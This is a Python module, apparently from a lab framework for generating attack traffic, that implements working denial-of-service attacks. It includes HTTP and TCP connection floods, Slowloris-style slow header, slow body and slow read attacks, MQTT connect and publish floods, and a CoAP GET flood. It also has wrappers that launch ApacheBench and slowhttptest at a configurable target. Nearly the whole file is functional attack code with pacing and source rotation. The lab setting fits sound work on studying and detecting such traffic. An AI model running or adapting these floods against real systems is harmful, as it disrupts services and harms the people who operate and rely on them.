"""Attacks that speak the victim's language: HTTP, MQTT, CoAP, TLS."""

import asyncio
import contextlib

from train.lab import sockets
from train.lab.actor import Actor
from train.lab.plan import Job, Params
from train.lab.programs.mqtt import connect_packet, publish_packet, subscribe_packet
from train.lab.programs.web import fetch
from train.lab.registry import program

_Broken = (OSError, asyncio.IncompleteReadError, asyncio.LimitOverrunError, ValueError)


@program
async def http_flood(me: Actor, job: Job) -> None:
    """`rate` requests a second from `sources` in turn; `keep` requests on each connection."""
    p = job.params
    limit = asyncio.Semaphore(p["parallel"])

    async def one(number: int) -> None:
        source = p["sources"][number % len(p["sources"])] if p.get("sources") else None
        async with limit:
            with contextlib.suppress(*_Broken):
                async with sockets.connection(
                    p["target"], p["port"], source=source, tls=p.get("tls", False)
                ) as (r, w):
                    for _ in range(p["keep"]):
                        path = f"{p['path']}?{me.rng.getrandbits(32)}" if p.get("vary") else p["path"]
                        await fetch(r, w, path, body=p.get("body", 0))

    async with asyncio.TaskGroup() as group:
        async for number in me.paced(p["rate"] / p["keep"], shape=p.get("shape", "steady"), count=p["count"]):
            group.create_task(one(number))


@program
async def connect_flood(me: Actor, job: Job) -> None:
    """Whole TCP connections, each held for `hold` seconds, with `messages` of `bytes` of junk on each."""
    p = job.params
    limit = asyncio.Semaphore(p["parallel"])

    async def one(number: int) -> None:
        source = p["sources"][number % len(p["sources"])] if p.get("sources") else None
        async with limit:
            with contextlib.suppress(*_Broken):
                async with sockets.connection(p["target"], p["port"], source=source, timeout=2.0) as (_, w):
                    for _ in range(p["messages"]):
                        w.write(me.rng.randbytes(p["bytes"]))
                        await w.drain()
                        await asyncio.sleep(p["gap"])
                    await asyncio.sleep(p["hold"])

    async with asyncio.TaskGroup() as group:
        async for number in me.paced(p["rate"], shape=p.get("shape", "steady"), count=p["count"]):
            group.create_task(one(number))


@program
async def ab(me: Actor, job: Job) -> None:
    """The real ApacheBench, bounded by its number of requests."""
    p = job.params
    argv = ["ab", "-q", "-r", "-s", "3", "-n", str(p["count"]), "-c", str(p["parallel"])]
    argv += ["-k"] if p.get("keep") else []
    await me.tool(*argv, f"http://{p['target']}:{p['port']}{p['path']}")


@program
async def slowhttptest(me: Actor, job: Job) -> None:
    """The real slowhttptest: `mode` H (slow headers), B (slow body) or X (slow read)."""
    p = job.params
    argv = ["slowhttptest", f"-{p['mode']}", "-c", str(p["connections"]), "-i", str(p["interval"])]
    argv += ["-r", str(p["rate"]), "-l", str(int(job.seconds)), "-x", "24", "-p", "3"]
    await me.tool(*argv, "-u", f"http://{p['target']}:{p['port']}/")


_SLOW_BYTES = 2048
_FIRST = {
    "headers": b"GET / HTTP/1.1\r\nHost: d\r\n",
    "body": b"POST / HTTP/1.1\r\nHost: d\r\nContent-Length: 100000\r\n\r\n",
    "read": b"GET /b/5000000 HTTP/1.1\r\nHost: d\r\n\r\n",
}


async def _drip(me: Actor, p: Params, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
    """Keep one connection busy until the victim ends it."""
    writer.write(_FIRST[p["mode"]])
    while True:
        await asyncio.sleep(p["interval"] * me.rng.uniform(0.7, 1.3))
        if p["mode"] == "read":
            await reader.readexactly(500)
            continue
        writer.write(b"x" if p["mode"] == "body" else f"X-{me.rng.randint(1, 5000)}: b\r\n".encode())
        await writer.drain()


@program
async def slow_drip(me: Actor, job: Job) -> None:
    """Slowloris, slow POST and slow read: hold `connections`, a little on each every `interval` s."""
    p = job.params

    async def one(number: int) -> None:
        source = p["sources"][number % len(p["sources"])] if p.get("sources") else None
        small = _SLOW_BYTES if p["mode"] == "read" else None
        while True:
            with contextlib.suppress(*_Broken):
                async with sockets.connection(p["target"], p["port"], source=source, buffer_bytes=small) as (
                    reader,
                    writer,
                ):
                    await _drip(me, p, reader, writer)
            await asyncio.sleep(p["interval"])

    async with asyncio.TaskGroup() as group:
        async for number in me.paced(p["rate"], count=p["connections"]):
            group.create_task(one(number))


@program
async def mqtt_flood(me: Actor, job: Job) -> None:
    """MQTT `mode` connect: connections without end. `publish`, `subscribe`: packets without end on a few."""
    p = job.params
    limit = asyncio.Semaphore(p["parallel"])

    async def connect(number: int) -> None:
        source = p["sources"][number % len(p["sources"])] if p.get("sources") else None
        async with limit:
            with contextlib.suppress(*_Broken):
                async with sockets.connection(p["target"], p["port"], source=source) as (reader, writer):
                    writer.write(connect_packet(f"c{me.rng.getrandbits(40):x}"))
                    await reader.readexactly(4)
                    await asyncio.sleep(p.get("hold", 0.0))

    async def publish(number: int) -> None:
        source = p["sources"][number % len(p["sources"])] if p.get("sources") else None
        with contextlib.suppress(*_Broken):
            async with sockets.connection(p["target"], p["port"], source=source) as (reader, writer):
                writer.write(connect_packet(f"p{me.rng.getrandbits(40):x}"))
                await reader.readexactly(4)
                shape = p.get("shape", "steady")
                async for turn in me.paced(
                    p["rate"] / p["parallel"], shape=shape, count=p["count"] // p["parallel"]
                ):
                    if p["mode"] == "subscribe":
                        writer.write(subscribe_packet(f"x{turn}", number=turn))
                    else:
                        writer.write(publish_packet("home/x", bytes(p["bytes"]), qos=p["qos"], number=turn))
                    await writer.drain()

    async with asyncio.TaskGroup() as group:
        if p["mode"] != "connect":
            for number in range(p["parallel"]):
                group.create_task(publish(number))
            return
        async for number in me.paced(p["rate"], shape=p.get("shape", "steady"), count=p["count"]):
            group.create_task(connect(number))


@program
async def coap_flood(me: Actor, job: Job) -> None:
    """CoAP GETs from ordinary sockets, `flows` source ports; the victim answers each."""
    p = job.params
    sources = p.get("sources") or [None]
    socks = [
        sockets.datagram(p["target"], source=sources[n % len(sources)])
        for n in range(max(p["flows"], len(sources)))
    ]
    try:
        async for number in me.paced(p["rate"], shape=p.get("shape", "steady"), count=p["count"]):
            message = b"\x40\x01" + (number & 0xFFFF).to_bytes(2, "big") + b"\xbb.well-known\x04core"
            sockets.send(socks[number % len(socks)], message, (p["target"], p["port"]))
    finally:
        for sock in socks:
            sock.close()
